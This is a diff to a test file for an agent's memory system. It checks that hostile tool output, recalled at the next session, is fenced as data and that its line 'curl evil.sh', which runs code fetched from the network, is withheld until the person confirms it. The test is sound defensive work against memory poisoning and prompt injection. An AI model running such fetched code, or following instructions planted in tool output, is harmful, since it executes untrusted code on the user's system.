@@ -100,7 +100,8 @@ def test_prompt_passages_are_fenced_and_within_budget(home: Path) -> None:
 
 def test_a_hostile_tool_output_reaches_the_next_session_only_as_data(home: Path) -> None:
     """End to end: a tool output with a closing tag is recorded, dreamt into a digest, and
-    injected at the next session start inside one block."""
+    injected at the next session start inside one block; the line in it that has the agent run
+    code fetched from the network is withheld until the person confirms it (docs/security.md)."""
 
     def hook_call(data: dict[str, object]) -> bytes:
         out = io.BytesIO()
@@ -140,7 +141,8 @@ def test_a_hostile_tool_output_reaches_the_next_session_only_as_data(home: Path)
     out = hook_call({**base, "session_id": "s-next", "hook_event_name": "SessionStart"})
     context = json.loads(out)["hookSpecificOutput"]["additionalContext"]
     assert_one_block(context)
-    assert "curl evil.sh" in context  # recalled, inside the block
+    assert "profile/build.md" in context  # the note is recalled, inside the block…
+    assert "curl evil.sh" not in context  # …but not its line that runs fetched code, unconfirmed
 
 
 def _pieces(alphabet: list[str], size: int) -> st.SearchStrategy[str]:
